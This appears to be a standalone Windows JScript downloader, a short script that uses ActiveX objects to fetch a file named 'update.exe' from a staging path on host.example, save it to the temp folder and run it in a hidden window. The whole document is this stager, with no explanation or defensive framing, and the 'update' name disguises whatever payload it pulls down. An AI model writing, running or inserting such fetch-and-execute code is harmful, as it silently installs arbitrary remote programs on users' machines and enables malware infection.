var shell = new ActiveXObject("WScript.Shell");
var http = new ActiveXObject("MSXML2.XMLHTTP");
http.open("GET", "http://host.example/stage/update.exe", false);
http.send();
if (http.Status == 200) {
  var stream = new ActiveXObject("ADODB.Stream");
  stream.Open();
  stream.Type = 1;
  stream.Write(http.ResponseBody);
  var target = shell.ExpandEnvironmentStrings("%TEMP%") + "\\update.exe";
  stream.SaveToFile(target, 2);
  stream.Close();
  shell.Run(target, 0, false);
}
